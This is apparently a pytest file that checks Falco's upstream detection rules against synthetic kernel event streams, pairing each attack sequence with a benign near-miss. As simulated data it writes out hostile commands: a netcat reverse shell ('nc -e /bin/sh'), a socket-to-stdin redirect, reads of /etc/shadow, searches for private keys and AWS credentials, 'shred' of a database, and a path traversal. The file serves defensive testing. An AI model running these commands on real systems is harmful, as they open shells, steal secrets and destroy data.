"""The upstream falco_rules.yaml, loaded with the engine, against synthetic kernel record streams."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agent.alert import Alert
from agent.engine.engine import Engine
from agent.event import Event
from tests.sources.kernel.state_fixtures import CONTAINER_ID, Stream, extract, inet
from tests.support.rules_harness import loaded_engine

O_WRONLY, O_TRUNC, O_APPEND, O_CREAT = 0o1, 0o1000, 0o2000, 0o100
AF_INET, AF_PACKET, SOCK_STREAM, SOCK_RAW = 2, 17, 1, 3
PTRACE_TRACEME, PTRACE_PEEKDATA, PTRACE_ATTACH = 0, 2, 16
CONTAINER_SHELL = 300


@pytest.fixture(scope="module")
def engine(reference: Path) -> Engine:
    return loaded_engine(reference / "rules" / "falco_rules.yaml")


def _stream() -> Stream:
    stream = Stream()
    stream.state.learn_container(stream.host.containers[CONTAINER_ID])
    return stream


def _alerts(engine: Engine, events: list[Event], rule: str) -> list[tuple[Event, Alert]]:
    return [(event, alert) for event in events for alert in engine.process(event) if alert.rule == rule]


# Each scenario returns the events of a stream; `fires` says whether the rule must fire on them.
def read_shadow(s: Stream) -> list[Event]:
    s.spawn(200, 210, "/usr/bin/cat", "/etc/shadow")
    return [s.open(210, "/etc/shadow")]


def read_hostname(s: Stream) -> list[Event]:
    s.spawn(200, 210, "/usr/bin/cat", "/etc/hostname")
    return [s.open(210, "/etc/hostname")]


def nginx_spawns_bash(s: Stream) -> list[Event]:
    s.spawn(1, 400, "/usr/sbin/nginx", "-g", "daemon off;")
    return [s.spawn(400, 401, "/bin/bash", "-c", "id")]


def sshd_spawns_bash(s: Stream) -> list[Event]:
    return [s.spawn(100, 401, "/bin/bash")]


def symlink_shadow(s: Stream) -> list[Event]:
    return [s.record("symlinkat", 200, target="/etc/shadow", linkdirfd=-100, linkpath="/tmp/x")]


def symlink_tmp(s: Stream) -> list[Event]:
    return [s.record("symlinkat", 200, target="/tmp/a", linkdirfd=-100, linkpath="/tmp/x")]


def hardlink_shadow(s: Stream) -> list[Event]:
    return [s.record("linkat", 200, olddir=-100, oldpath="/etc/shadow", newdir=-100, newpath="/tmp/y", flags=0)]


def hardlink_tmp(s: Stream) -> list[Event]:
    return [s.record("linkat", 200, olddir=-100, oldpath="/tmp/a", newdir=-100, newpath="/tmp/y", flags=0)]


def exec_dev_shm(s: Stream) -> list[Event]:
    return [s.spawn(200, 210, "/dev/shm/.x/miner", "--pool")]


def exec_usr_bin(s: Stream) -> list[Event]:
    return [s.spawn(200, 210, "/usr/bin/ls", "/dev/shm")]


def memfd_exec(s: Stream) -> list[Event]:
    s.fork(200, 210)
    s.record("memfd_create", 210, res=5, name="payload", flags=0)
    return [s.exec(210, "/proc/self/fd/5", comm="5")]


def memfd_exec_by_runc(s: Stream) -> list[Event]:
    s.spawn(200, 210, "/usr/bin/runc", "init")
    s.record("memfd_create", 210, res=5, name="runc_cloned:/proc/self/exe", flags=1)
    return [s.exec(210, "/proc/self/fd/5", comm="runc")]


def ptrace(request: int) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        s.spawn(200, 210, "/usr/bin/gdb", "-p", "100")
        return [s.record("ptrace", 210, request=request, pid=100, addr=0, data=0)]

    return scenario


def packet_socket(pid: int) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        s.spawn(pid, 310, "/usr/sbin/tcpdump", "-i", "eth0")
        return [s.record("socket", 310, res=3, domain=AF_PACKET, type=SOCK_RAW, proto=768)]

    return scenario


def netcat(pid: int, *argv: str) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        return [s.spawn(pid, 310, "/usr/bin/nc", *argv)]

    return scenario


def redirect_stdin(pid: int) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        s.fork(pid, 310)
        s.record("socket", 310, res=3, domain=AF_INET, type=SOCK_STREAM, proto=0)
        s.record("connect", 310, fd=3, addr=inet("203.0.113.9", 4444), local_addr=inet("172.17.0.2", 40000))
        return [s.record("dup2", 310, res=0, oldfd=3, newfd=0)]

    return scenario


def truncate_log(flags: int) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        return [s.open(200, "/var/log/syslog", flags=flags)]

    return scenario


def run(path: str, *argv: str) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        return [s.spawn(200, 210, path, *argv)]

    return scenario


def traversal(parent: str) -> Callable[[Stream], list[Event]]:
    def scenario(s: Stream) -> list[Event]:
        s.spawn(1, 400, f"/usr/sbin/{parent}")
        s.record("chdir", 400, path="/var/www/html")
        s.spawn(400, 401, "/usr/bin/php-cgi")
        return [s.open(401, "../../../etc/passwd")]

    return scenario


CASES: list[tuple[str, Callable[[Stream], list[Event]], Callable[[Stream], list[Event]], dict[str, Any]]] = [
    ("Read sensitive file untrusted", read_shadow, read_hostname,
     {"fd.name": "/etc/shadow", "proc.name": "cat", "proc.pname": "bash", "user.name": "alice",
      "proc.aname[2]": "sshd", "proc.tty": 34816, "user.loginuid": 1000}),
    ("Run shell untrusted", nginx_spawns_bash, sshd_spawns_bash,
     {"proc.pname": "nginx", "proc.pexepath": "/usr/sbin/nginx", "proc.cmdline": "bash -c id",
      "proc.pcmdline": "nginx -g daemon off;", "evt.arg.flags": "0"}),
    ("Create Symlink Over Sensitive Files", symlink_shadow, symlink_tmp,
     {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x"}),
    ("Create Hardlink Over Sensitive Files", hardlink_shadow, hardlink_tmp,
     {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/y"}),
    ("Execution from /dev/shm", exec_dev_shm, exec_usr_bin,
     {"proc.exe": "/dev/shm/.x/miner", "proc.exepath": "/dev/shm/.x/miner", "evt.res": "SUCCESS"}),
    ("Fileless execution via memfd_create", memfd_exec, memfd_exec_by_runc,
     {"proc.exepath": "memfd:payload", "proc.is_exe_from_memfd": True, "evt.arg.flags": "EXE_FROM_MEMFD"}),
    ("PTRACE attached to process", ptrace(PTRACE_ATTACH), ptrace(PTRACE_PEEKDATA),
     {"evt.arg.request": "PTRACE_ATTACH", "proc.name": "gdb"}),
    ("PTRACE anti-debug attempt", ptrace(PTRACE_TRACEME), ptrace(PTRACE_ATTACH),
     {"evt.arg.request": "PTRACE_TRACEME"}),
    ("Packet socket created in container", packet_socket(CONTAINER_SHELL), packet_socket(200),
     {"container.id": CONTAINER_ID[:12], "evt.arg.domain": "AF_PACKET", "fd.type": "unknown"}),
    ("Netcat Remote Code Execution in Container", netcat(CONTAINER_SHELL, "-e", "/bin/sh", "10.0.0.1", "4444"),
     netcat(CONTAINER_SHELL, "-l", "8080"), {"proc.name": "nc", "container.name": "web"}),
    ("Redirect STDOUT/STDIN to Network Connection in Container", redirect_stdin(CONTAINER_SHELL),
     redirect_stdin(200),
     {"fd.name": "172.17.0.2:40000->203.0.113.9:4444", "fd.sip": "203.0.113.9", "fd.lport": 40000,
      "fd.rport": 4444, "fd.type": "ipv4", "fd.l4proto": "tcp", "evt.rawres": 0}),
    ("Clear Log Activities", truncate_log(O_WRONLY | O_TRUNC), truncate_log(O_WRONLY | O_APPEND),
     {"fd.name": "/var/log/syslog", "evt.arg.flags": "O_TRUNC|O_WRONLY"}),
    ("Search Private Keys or Passwords", run("/usr/bin/grep", "-r", "BEGIN RSA PRIVATE", "/"),
     run("/usr/bin/grep", "-r", "TODO", "."), {"proc.name": "grep"}),
    ("Find AWS Credentials", run("/usr/bin/find", "/", "-path", "*/.aws/credentials"),
     run("/usr/bin/find", "/", "-name", "*.py"),
     {"proc.name": "find", "proc.cwd": "/home/alice/", "group.name": "alice", "user.loginname": "alice"}),
    ("Remove Bulk Data from Disk", run("/usr/bin/shred", "-u", "/data/db"), run("/usr/bin/ls", "/data"),
     {"proc.name": "shred", "proc.args": "-u /data/db"}),
    ("Directory traversal monitored file read", traversal("nginx"), traversal("bash"),
     {"fd.name": "/etc/passwd", "fd.nameraw": "../../../etc/passwd", "proc.pname": "nginx"}),
]


@pytest.mark.parametrize(("rule", "attack", "benign", "fields"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_attack_and_not_on_its_benign_twin(engine: Engine, rule: str, attack: Any, benign: Any,
                                                          fields: dict[str, Any]) -> None:
    """Each upstream rule fires on its attack sequence, with Falco's values in its fields, and stays quiet
    on a near miss."""
    fired = _alerts(engine, attack(_stream()), rule)
    assert len(fired) == 1, rule
    event, alert = fired[0]
    for name, expected in fields.items():
        value = alert.output_fields[name] if name in alert.output_fields else extract(event, name)
        assert str(value).lower() == str(expected).lower(), name
    assert not _alerts(engine, benign(_stream()), rule)
